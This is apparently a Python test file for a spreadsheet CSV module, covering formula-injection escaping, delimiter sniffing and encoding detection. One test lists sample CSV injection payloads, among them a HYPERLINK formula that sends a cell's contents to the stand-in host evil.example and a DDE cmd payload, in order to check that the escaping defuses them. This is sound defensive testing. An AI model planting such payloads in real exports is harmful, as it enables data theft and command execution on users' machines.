"""CSV as spreadsheets save it is read; cells a spreadsheet would run as formulas come out as
text."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from microcred.spreadsheet import (
    FORMULA_STARTS,
    NotText,
    decode_text,
    safe_cell,
    safe_writer,
    sniff_delimiter,
)


@given(st.lists(st.one_of(st.text(), st.integers()), min_size=1, max_size=6))
def test_no_written_text_cell_starts_a_formula_and_safe_ones_are_unchanged(row: list) -> None:  # type: ignore[type-arg]
    out = io.StringIO()
    safe_writer(out).writerow(row)
    (read,) = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(read) == len(row)
    for original, cell in zip(row, read, strict=True):
        if isinstance(original, int):
            assert cell == str(original)  # numbers stay numbers, negative ones too
            continue
        assert not cell.startswith(FORMULA_STARTS)
        if original.startswith(FORMULA_STARTS):
            assert cell == "'" + original
        else:
            assert cell == original


def test_the_usual_attacks_are_defused() -> None:
    for attack in ('=HYPERLINK("https://evil.example/?"&A1,"Click")', "+1+cmd|' /C calc'!A0",
                   "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"):  # fmt: skip
        assert safe_cell(attack) == "'" + attack
    assert safe_cell("Lee Learner") == "Lee Learner" and safe_cell(-5) == -5


COLUMNS = ("definition_id", "recipient_email", "recipient_name", "result_level")


@given(
    st.sampled_from([",", ";", "\t"]),
    st.lists(
        st.lists(st.text(st.characters(blacklist_categories=("Cs",)), max_size=12), min_size=4,
                 max_size=4),
        max_size=5,
    ),
)  # fmt: skip
def test_the_delimiter_is_the_one_that_splits_the_header_into_known_columns(
    delimiter: str, rows: list[list[str]]
) -> None:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter)
    writer.writerow(COLUMNS)
    writer.writerows(rows)  # data may hold any delimiter: only the header decides
    assert sniff_delimiter(out.getvalue(), lambda name: name in COLUMNS) == delimiter


def test_a_header_of_unknown_names_falls_back_to_commas() -> None:
    assert sniff_delimiter("a;b;c\n1;2;3", lambda name: False) == ","
    assert sniff_delimiter("", lambda name: False) == ","


def test_text_is_read_as_spreadsheets_save_it_and_other_encodings_are_named() -> None:
    text = "recipient_name\nJosé Müller\n李雷\n"
    assert decode_text(text.encode("utf-8")) == text
    assert decode_text(b"\xef\xbb\xbf" + text.encode("utf-8")) == text  # Excel's CSV UTF-8
    assert decode_text(text.encode("utf-16")) == text  # Excel's Unicode Text (BOM + UTF-16LE)
    assert decode_text("\ufeff".encode("utf-16-be") + text.encode("utf-16-be")) == text
    with pytest.raises(NotText) as error:
        decode_text("recipient_name\nAnna\nJosé Müller\n".encode("cp1252"))
    assert "line 3 has the byte 0xe9" in str(error.value) and "CSV UTF-8" in str(error.value)


@given(st.text(max_size=200))
def test_sniffing_any_text_gives_a_delimiter(text: str) -> None:
    assert sniff_delimiter(text, lambda name: name in COLUMNS) in (",", ";", "\t")
